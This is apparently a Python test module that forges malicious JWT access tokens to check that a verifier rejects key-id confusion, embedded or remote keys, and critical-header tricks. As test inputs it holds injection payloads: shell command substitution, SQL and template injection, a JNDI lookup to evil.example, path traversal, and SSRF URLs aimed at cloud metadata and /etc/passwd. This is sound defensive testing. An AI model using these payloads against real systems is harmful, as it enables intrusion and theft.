"""Tokens that want to choose the key: by an id that is none of ours, or by bringing the key along."""

import base64
import datetime
import hmac
from collections.abc import Iterator
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization

from tests.contracts.torture.forge import Draft, Forge, bad, dumped, good, sealed, strict
from tests.contracts.torture.keys import Key
from tests.contracts.torture.primitives import ecdsa
from tests.support.tokens import OMIT, b64

_EVIL = "https://evil.example"


def kid(forge: Forge) -> Iterator[Draft]:
    """Key ids and keys that do not belong together, or are no key ids."""
    keys = forge.keys
    ours, second = keys.good.kid, keys.second.kid
    yield good(
        "second",
        "Signed by the other key that signs access tokens, and it says so.",
        forge.token({"kid": second}, key=keys.second),
    )
    what = "Signed by a key that is published nowhere, under the id of {} (RFC 8725 §3.10)."
    yield bad("foreign-as-ours", what.format("ours"), forge.token(key=keys.foreign), "signature_wrong")
    yield bad(
        "foreign-as-second",
        what.format("our second one"),
        forge.token({"kid": second}, key=keys.foreign),
        "signature_wrong",
    )
    yield bad(
        "foreign", what.format("its own"), forge.token({"kid": keys.foreign.kid}, key=keys.foreign), "kid_unknown"
    )
    what = "Signed by {} under the id of {}: a signature is checked with the key that is named and no other."
    yield bad("swapped", what.format("our second key", "the first"), forge.token(key=keys.second), "signature_wrong")
    yield bad(
        "swapped-back", what.format("our first key", "the second"), forge.token({"kid": second}), "signature_wrong"
    )
    yield from _unfit(forge)
    yield from _malformed(forge)
    others: tuple[tuple[str, Any], ...] = (
        ("unknown", "unknown"),
        ("upper-case", ours.upper()),
        ("lower-case", ours.lower()),
        ("shortened", ours[:-1]),
        ("lengthened", ours + "A"),
        ("blank-behind", ours + " "),
        ("blank-before", " " + ours),
        ("line-end-behind", ours + "\n"),
        ("nul-behind", ours + "\0"),
        ("padded", ours + "="),
        ("both", f"{ours},{second}"),
        ("asterisk", "*"),
        ("percent", "%"),
        ("zero", "0"),
        ("nul", "\0"),
        ("path", "../../../../../../dev/null"),
        ("path-to-keys", "../../tests/contracts/torture/keys.json"),
        ("path-with-nul", "/dev/null\0.pem"),
        ("sql", "' OR 1=1--"),
        ("sql-union", "x' UNION SELECT 'AAAA'--"),
        ("shell", "$(id)"),
        ("pipe", "|/usr/bin/id"),
        ("template", "{{7*7}}"),
        ("lookup", "${jndi:ldap://evil.example/a}"),
        ("ldap", "*)(kid=*"),
        ("url", _EVIL + "/key.pem"),
        ("file-url", "file:///dev/null"),
        ("prototype", "__proto__"),
        ("constructor", "constructor"),
        ("modulus", keys.good.jwk["n"][:128]),
        ("fullwidth", "".join(chr(ord(letter) + 0xFEE0) for letter in ours)),
        ("lone-surrogate", "\ud800"),
        ("longest", "k" * 128),
        ("json", dumped({"kid": ours})),
    )
    why = "The kid {} names no key of the set; it is compared as it is and looked up nowhere else (RFC 8725 §3.10)."
    for slug, value in others:
        shown = dumped(value) if len(dumped(value)) < 80 else f"of {len(value)} characters"
        yield bad(f"id-{slug}", why.format(shown), forge.token({"kid": value}), "kid_unknown")
    what = "The kid is known, but it stands in the payload, where nobody looks for it."
    yield bad("in-payload", what, forge.token({"kid": OMIT}, {"kid": ours}), "kid_malformed")


def _malformed(forge: Forge) -> Iterator[Draft]:
    ours = forge.keys.good.kid
    values: tuple[tuple[str, Any], ...] = (
        ("null", None),
        ("empty", ""),
        ("false", False),
        ("true", True),
        ("number", 0),
        ("fraction", 1.5),
        ("list", [ours]),
        ("empty-list", []),
        ("object", {"kid": ours}),
        ("empty-object", {}),
    )
    for slug, value in values:
        what = f"The kid is {dumped(value)}, which is the name of no key (RFC 7515 §4.1.4)."
        yield bad(f"id-{slug}", what, forge.token({"kid": value}), "kid_malformed")
    what = "There is no kid, and so more than one key that might have signed; which one is not to be guessed."
    yield strict("id-missing", what, forge.token({"kid": OMIT}), "kid_malformed")
    for length in (129, 8000):
        what = f"The kid has {length} characters; no key has such a name."
        yield bad(f"id-long-{length}", what, forge.token({"kid": "k" * length}), "kid_malformed")


def _unfit(forge: Forge) -> Iterator[Draft]:
    """Keys that are in the set, and RSA, and still not for this."""
    keys = forge.keys
    unfit = (
        (keys.encryption, "is published for encryption (RFC 7517 §4.2)"),
        (keys.wrapping, "may only wrap keys (RFC 7517 §4.3)"),
        (keys.other_digest, "is published for RS512 (RFC 7517 §4.4)"),
        (keys.other_padding, "is published for PS256 (RFC 7517 §4.4)"),
        (keys.weak, "has 1024 bits, and 2048 is the least there may be (RFC 7518 §3.3)"),
    )
    for key, reason in unfit:
        what = f"Signed with RS256 by a key of the set that {reason}."
        yield bad(key.name, what, forge.token({"kid": key.kid}, key=key), "kid_unknown")
        what = f"Signed under our kid by a key of the set that {reason}."
        yield bad(f"{key.name}-as-ours", what, forge.token(key=key), "signature_wrong")
    what = "Signed by a key of 1024 bits, whose modulus is written with zeros before it (RFC 7518 §3.3, §6.3.1.1)."
    yield bad("weak-long", what, forge.token({"kid": "weak-long"}, key=keys.weak), "kid_unknown")
    what = "The kid is that of a key whose type nobody knows yet; such a key verifies nothing (RFC 7517 §5)."
    yield bad("future", what, forge.token({"kid": "future"}), "kid_unknown")


def _certificate(key: Key) -> list[str]:
    """Return a self-signed certificate, which says no more than its key does."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "torture")])
    begin = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    builder = x509.CertificateBuilder(name, name, key.private.public_key(), 1, begin, begin.replace(year=2100))
    made = builder.sign(key.private, hashes.SHA256())
    return [base64.b64encode(made.public_bytes(serialization.Encoding.DER)).decode()]


def embedded(forge: Forge) -> Iterator[Draft]:
    """Keys in the header, and addresses of keys."""
    foreign, ours = forge.keys.foreign, forge.keys.good
    private = {**foreign.jwk, "d": b64(foreign.private.private_numbers().d.to_bytes(256, "big"))}
    secret = {"kty": "oct", "k": b64(b"secret"), "alg": "HS256"}
    values: tuple[tuple[str, str, Any], ...] = (
        ("jwk", "the signer's own key", foreign.jwk),
        ("jwk-with-our-kid", "the signer's own key with our kid in it", {**foreign.jwk, "kid": ours.kid}),
        ("jwk-bare", "the signer's own key without a name", {name: foreign.jwk[name] for name in ("kty", "n", "e")}),
        ("jwk-private", "the signer's private key", private),
        ("jwk-set", "a whole key set", {"keys": [foreign.jwk]}),
        ("jwk-text", "the signer's key as a string", dumped(foreign.jwk)),
        ("jwk-secret", "a shared secret", secret),
        ("jwk-null", "null", None),
        ("jku", "an address of the signer's", _EVIL + "/jwks.json"),
        ("jku-like-ours", "an address that begins as ours does", forge.issuer + ".evil.example/jwks.json"),
        ("jku-userinfo", "an address with our name before the @", forge.issuer + "@evil.example/jwks.json"),
        ("jku-ours", "our own address", forge.issuer + "/.well-known/jwks.json"),
        ("jku-redirect", "an address of ours that might lead elsewhere", f"{forge.issuer}/?next={_EVIL}/jwks.json"),
        ("jku-metadata", "the address of a cloud's metadata", "http://169.254.169.254/latest/meta-data/"),
        ("jku-file", "a file", "file:///etc/passwd"),
        ("jku-data", "the key itself as an address", "data:application/json," + dumped({"keys": [foreign.jwk]})),
        ("jku-empty", "nothing", ""),
        ("x5u", "an address of the signer's", _EVIL + "/chain.pem"),
        ("x5c", "a certificate of the signer's", _certificate(foreign)),
        ("x5c-ours", "a certificate of our key", _certificate(ours)),
        ("x5c-empty", "no certificate", []),
        ("x5c-text", "a certificate of the signer's that stands in no list", _certificate(foreign)[0]),
    )
    for slug, name, value in values:
        header = {slug.split("-", maxsplit=1)[0]: value}
        why = f"The {slug[:3]} header is {name}: the one who signs does not choose the key (RFC 8725 §3.10);"
        yield bad(
            f"{slug}-foreign", why + " signed by that key.", forge.token(header, key=foreign), "header_not_allowed"
        )
        yield strict(f"{slug}-ours", why + " signed by ours.", forge.token(header), "header_not_allowed")
    what = "The jwk header is the signer's own key and there is no kid, so that a verifier might turn to it."
    token = forge.token({"jwk": foreign.jwk, "kid": OMIT}, key=foreign)
    yield bad("jwk-without-kid", what, token, "header_not_allowed")
    token = forge.token({"jwk": foreign.jwk, "kid": foreign.kid}, key=foreign)
    yield bad(
        "jwk-with-its-kid",
        "The jwk header is the signer's own key, and the kid is that key's.",
        token,
        "header_not_allowed",
    )
    signed = forge.unsigned({"alg": "HS256", "jwk": secret})
    token = sealed(signed, hmac.digest(b"secret", signed.encode(), "sha256"))
    yield bad(
        "jwk-secret-hs256",
        "The jwk header is a shared secret, and the HMAC is right under it.",
        token,
        "alg_not_allowed",
    )
    curve = forge.keys.foreign_curve
    signed = forge.unsigned({"alg": "ES256", "jwk": curve.jwk})
    token = sealed(signed, ecdsa(curve.private, signed.encode(), "256"))
    yield bad("jwk-es256", "The jwk header is the signer's own key on a curve.", token, "alg_not_allowed")
    what = "Signed by a foreign key, which stands in {}; that is no key of ours."
    for slug, header, claims in (
        ("jwk-upper-case", {"JWK": foreign.jwk}, {}),
        ("jku-upper-case", {"JKU": _EVIL + "/jwks.json"}, {}),
        ("jwk-in-payload", {}, {"jwk": foreign.jwk}),
        ("jwk-in-cnf", {}, {"cnf": {"jwk": foreign.jwk}}),
        ("jwk-in-epk", {"epk": foreign.jwk}, {}),
    ):
        where = next(iter({**header, **claims}))
        yield bad(slug, what.format(f"the member {where}"), forge.token(header, claims, key=foreign), "signature_wrong")
    what = "There is a thumbprint of a foreign certificate instead of a kid."
    token = forge.token({"kid": OMIT, "x5t#S256": b64(bytes(32))}, key=foreign)
    yield bad("thumbprint", what, token, "kid_malformed")


def critical(forge: Forge) -> Iterator[Draft]:
    """Headers that must be understood, and change how the rest is read."""
    why = "The crit header is {}: {} (RFC 7515 §4.1.11)."
    unknown = "what is not understood must not be passed over"
    malformed = "it must be a list of names, not empty, of headers that are there"
    values: tuple[tuple[str, dict[str, Any], str], ...] = (
        ("unknown", {"crit": ["x"], "x": 1}, unknown),
        ("unknown-two", {"crit": ["x", "y"], "x": 1, "y": 2}, unknown),
        (
            "unknown-url",
            {"crit": ["http://example.invalid/undefined"], "http://example.invalid/undefined": True},
            unknown,
        ),
        ("exp", {"crit": ["exp"], "exp": forge.now + 590}, unknown),
        ("b64-false", {"crit": ["b64"], "b64": False}, "the payload would have to be read as it stands, RFC 7797 §6"),
        ("absent", {"crit": ["x"]}, malformed),
        ("b64-absent", {"crit": ["b64"]}, malformed),
        ("empty", {"crit": []}, malformed),
        ("null", {"crit": None}, malformed),
        ("false", {"crit": False}, malformed),
        ("text", {"crit": "x", "x": 1}, malformed),
        ("text-empty", {"crit": ""}, malformed),
        ("object", {"crit": {"x": 1}, "x": 1}, malformed),
        ("object-empty", {"crit": {}}, malformed),
        ("number", {"crit": 1}, malformed),
        ("numbers", {"crit": [1]}, malformed),
        ("nested", {"crit": [["x"]], "x": 1}, malformed),
        ("twice", {"crit": ["x", "x"], "x": 1}, "no name may stand there twice"),
        ("itself", {"crit": ["crit"]}, "it must not name what JWS itself defines"),
        ("alg", {"crit": ["alg"]}, "it must not name what JWS itself defines"),
        ("kid", {"crit": ["kid"]}, "it must not name what JWS itself defines"),
    )
    for slug, header, reason in values:
        yield bad(slug, why.format(dumped(header["crit"]), reason), forge.token(header), "header_not_allowed")
    token = forge.token({"crit": ["b64"], "b64": True})
    yield strict(
        "b64-true",
        "The b64 header is critical and says what holds anyway; still it is not ours.",
        token,
        "header_not_allowed",
    )
    for slug, value in (("false", False), ("true", True), ("null", None), ("text", "false"), ("zero", 0)):
        what = (
            f"The b64 header is {dumped(value)} and not critical (RFC 7797 §6); it is not up to a token how it is read."
        )
        yield strict(f"b64-alone-{slug}", what, forge.token({"b64": value}), "header_not_allowed")
    plain = dumped({name: value for name, value in forge.claims.items() if name not in ("iss", "aud", "sub")})
    for slug, header in (("critical", {"crit": ["b64"], "b64": False}), ("alone", {"b64": False})):
        head = b64(dumped({**forge.header, **header}).encode())
        token = forge.signed_as_is(f"{head}.{plain}")
        what = "The payload stands there as it is, not encoded (RFC 7797); no access token does that (RFC 9068 §2)."
        yield bad(f"b64-plain-{slug}", what, token, "header_not_allowed")
    head, payload = forge.unsigned({"crit": ["b64"], "b64": False}).split(".")
    signature = forge.signature(f"{head}.".encode() + dumped(forge.claims).encode())
    what = "The payload is detached from a token that is not encoded (RFC 7797 §5.2)."
    yield bad("b64-detached", what, f"{head}..{b64(signature)}", "header_not_allowed")
    what = "The signature is of the payload as it is, and the payload stands there encoded."
    yield bad("b64-mixed", what, f"{head}.{payload}.{b64(signature)}", "header_not_allowed")
    for name, value in (("zip", "DEF"), ("enc", "A128GCM")):
        what = f"The {name} header belongs to encrypted tokens (RFC 7516 §4.1); a signed one with it is none of ours."
        yield strict(f"{name}-on-a-signed-token", what, forge.token({name: value}), "header_not_allowed")
